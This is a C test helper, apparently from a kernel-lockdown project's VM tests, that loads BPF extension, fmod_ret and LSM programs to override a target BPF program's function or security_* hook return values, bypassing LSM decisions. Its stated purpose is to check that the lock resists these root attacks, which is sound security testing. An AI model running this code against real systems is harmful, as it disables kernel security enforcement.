// SPDX-License-Identifier: GPL-2.0
/*
 * freplace-attack: tries to replace a function of a loaded BPF program with an extension (BPF_PROG_TYPE_EXT) that
 * returns 0, as root would to neuter modgate's decisions. Used by the lock guest tests (tests/vm/tests/lock); built into the base layer like trigger.
 *
 *   freplace-attack PROG_ID FUNC   replace FUNC (a FUNC in PROG_ID's BTF) of program PROG_ID
 *   freplace-attack control        the same against a program it loads itself with a global subprogram, to show
 *                                  the attack works where a target allows it (so a failure elsewhere means something)
 *   freplace-attack hook fmod_ret|lsm FUNC ARG PIN
 *                                  a program on kernel function FUNC (fmod_ret: a security_* function; lsm: bpf_lsm_HOOK)
 *                                  that returns its argument number ARG (e.g. 2, the size of security_kernel_post_read_file:
 *                                  the read then looks successful and no LSM ran), 1 for "one", 0 for "zero"; its link is
 *                                  pinned at PIN (rm PIN detaches it). Prints "hook: attached".
 *
 * Prints "freplace: loaded" and exits 0 when the kernel accepted the extension, or "STEP: errno=NAME" (with the
 * verifier's last line when there is one) and exits 1.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/bpf.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

static char log_buf[65536];

static int fail(const char *step)
{
	int e = errno;
	const char *name = strerrorname_np(e);
	printf("%s: errno=%s (%s)\n", step, name ? name : "E?", strerror(e));
	/* The verifier's reason is its first line (attach target checks come before any instruction). */
	char *end = strchr(log_buf, '\n');
	if (end) *end = 0;
	if (log_buf[0]) printf("verifier: %s\n", log_buf);
	log_buf[0] = 0;
	return 1;
}

/* BTF of one function with TARGET's prototype shape: ints stay ints of their size, pointers become u64 *. */
static int ext_btf(const struct btf *target, const struct btf_type *proto, struct btf **out, int *func_id)
{
	struct btf *b = btf__new_empty();
	if (!b) return -1;
	int u64 = btf__add_int(b, "unsigned long long", 8, 0);
	int u64p = btf__add_ptr(b, u64);
	int i32 = btf__add_int(b, "int", 4, BTF_INT_SIGNED);
	/* Every type first: btf__add_func_param appends to the type added last, which must be the prototype. */
	const struct btf_param *p = btf_params(proto);
	int types[16], n = btf_vlen(proto) < 16 ? btf_vlen(proto) : 16;
	for (int i = 0; i < n; i++) {
		const struct btf_type *t = btf__type_by_id(target, p[i].type);
		while (t && (btf_is_typedef(t) || btf_is_const(t) || btf_is_volatile(t))) t = btf__type_by_id(target, t->type);
		types[i] = !t || !btf_is_int(t) ? u64p : t->size == 8 ? u64 : i32;
	}
	int fp = btf__add_func_proto(b, i32);
	for (int i = 0; i < n; i++) btf__add_func_param(b, "arg", types[i]);
	*func_id = btf__add_func(b, "attack", BTF_FUNC_GLOBAL, fp);
	if (*func_id < 0 || btf__load_into_kernel(b)) return -1;
	*out = b;
	return 0;
}

static int attack(int target_fd, const char *func)
{
	struct bpf_prog_info info = {};
	__u32 len = sizeof(info);
	if (bpf_obj_get_info_by_fd(target_fd, &info, &len)) return fail("bpf_obj_get_info_by_fd");
	if (!info.btf_id) { printf("target has no BTF: no extension can attach\n"); return 1; }
	struct btf *target = btf__load_from_kernel_by_id(info.btf_id);
	if (!target) return fail("btf__load_from_kernel_by_id");
	int id = btf__find_by_name_kind(target, func, BTF_KIND_FUNC);
	if (id < 0) { printf("no FUNC %s in the target's BTF\n", func); return 1; }
	const struct btf_type *proto = btf__type_by_id(target, btf__type_by_id(target, id)->type);
	struct btf *ext;
	int func_id;
	if (ext_btf(target, proto, &ext, &func_id)) return fail("btf__load_into_kernel");
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	struct bpf_func_info fi = { .insn_off = 0, .type_id = func_id };
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_prog_fd = target_fd, .attach_btf_id = id, .prog_btf_fd = btf__fd(ext),
		    .func_info = &fi, .func_info_cnt = 1, .func_info_rec_size = sizeof(fi),
		    .log_buf = log_buf, .log_size = sizeof(log_buf), .log_level = 1);
	int fd = bpf_prog_load(BPF_PROG_TYPE_EXT, "attack", "GPL", insns, 2, &opts);
	if (fd < 0) return fail("bpf_prog_load(BPF_PROG_TYPE_EXT)");
	int link = bpf_link_create(fd, 0, 0, NULL); /* the target given at load */
	if (link < 0) return fail("bpf_link_create");
	printf("freplace: loaded\n");
	return 0;
}

/* A socket filter whose main calls a global subprogram `int sub(int x)`: a legitimate freplace target. */
static int control_target(void)
{
	struct btf *b = btf__new_empty();
	int i32 = btf__add_int(b, "int", 4, BTF_INT_SIGNED);
	int main_proto = btf__add_func_proto(b, i32);
	btf__add_func_param(b, "x", i32);
	int main_id = btf__add_func(b, "control_main", BTF_FUNC_GLOBAL, main_proto);
	int sub_id = btf__add_func(b, "sub", BTF_FUNC_GLOBAL, main_proto);
	if (sub_id < 0 || main_id < 0 || btf__load_into_kernel(b)) return fail("btf__load_into_kernel(control)"), -1;
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_1, .imm = 1 },
		{ .code = BPF_JMP | BPF_CALL, .src_reg = BPF_PSEUDO_CALL, .imm = 1 }, /* to insn 3 */
		{ .code = BPF_JMP | BPF_EXIT },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = BPF_REG_0, .src_reg = BPF_REG_1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	struct bpf_func_info fi[] = { { .insn_off = 0, .type_id = main_id }, { .insn_off = 3, .type_id = sub_id } };
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_btf_fd = btf__fd(b), .func_info = fi, .func_info_cnt = 2,
		    .func_info_rec_size = sizeof(fi[0]), .log_buf = log_buf, .log_size = sizeof(log_buf), .log_level = 1);
	int fd = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "control", "GPL", insns, 5, &opts);
	if (fd < 0) return fail("bpf_prog_load(control target)"), -1;
	log_buf[0] = 0;
	return fd;
}

/* A program on FUNC that returns ctx[arg] (or 1, or 0): the shape of issue 14 #7's attack. */
static int hook_attack(const char *kind, const char *func, const char *arg, const char *pin)
{
	int lsm = !strcmp(kind, "lsm");
	if (!lsm && strcmp(kind, "fmod_ret")) { fprintf(stderr, "hook: kind is fmod_ret or lsm\n"); return 2; }
	struct btf *vmlinux = btf__load_vmlinux_btf();
	if (!vmlinux) return fail("btf__load_vmlinux_btf");
	int id = btf__find_by_name_kind(vmlinux, func, BTF_KIND_FUNC);
	if (id < 0) { printf("no FUNC %s in the kernel's BTF\n", func); return 1; }
	int n = !strcmp(arg, "one") ? -1 : !strcmp(arg, "zero") ? -2 : atoi(arg);
	struct bpf_insn insns[] = {
		n < 0 ? (struct bpf_insn){ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = n == -1 }
		      : (struct bpf_insn){ .code = BPF_LDX | BPF_MEM | BPF_DW, .dst_reg = BPF_REG_0, .src_reg = BPF_REG_1, .off = (short)(8 * n) },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_btf_id = id, .expected_attach_type = lsm ? BPF_LSM_MAC : BPF_MODIFY_RETURN,
		    .log_buf = log_buf, .log_size = sizeof(log_buf), .log_level = 1);
	int fd = bpf_prog_load(lsm ? BPF_PROG_TYPE_LSM : BPF_PROG_TYPE_TRACING, "attack", "GPL", insns, 2, &opts);
	if (fd < 0) {
		/* The verifier's reason is its last line here (the return value check comes at the end). */
		char *last = log_buf, *nl;
		while ((nl = strchr(last, '\n')) && nl[1]) last = nl + 1;
		memmove(log_buf, last, strlen(last) + 1);
		return fail(lsm ? "bpf_prog_load(BPF_PROG_TYPE_LSM)" : "bpf_prog_load(BPF_PROG_TYPE_TRACING, fmod_ret)");
	}
	log_buf[0] = 0;
	int link = bpf_raw_tracepoint_open(NULL, fd);
	if (link < 0) return fail("bpf_raw_tracepoint_open");
	if (bpf_obj_pin(link, pin)) return fail("bpf_obj_pin");
	printf("hook: attached\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 6 && !strcmp(argv[1], "hook"))
		return hook_attack(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 2 && !strcmp(argv[1], "control")) {
		int fd = control_target();
		return fd < 0 ? 1 : attack(fd, "sub");
	}
	if (argc != 3) { fprintf(stderr, "usage: freplace-attack PROG_ID FUNC | control | hook fmod_ret|lsm FUNC ARG PIN\n"); return 2; }
	int fd = bpf_prog_get_fd_by_id((__u32)strtoul(argv[1], NULL, 10));
	if (fd < 0) return fail("bpf_prog_get_fd_by_id");
	return attack(fd, argv[2]);
}
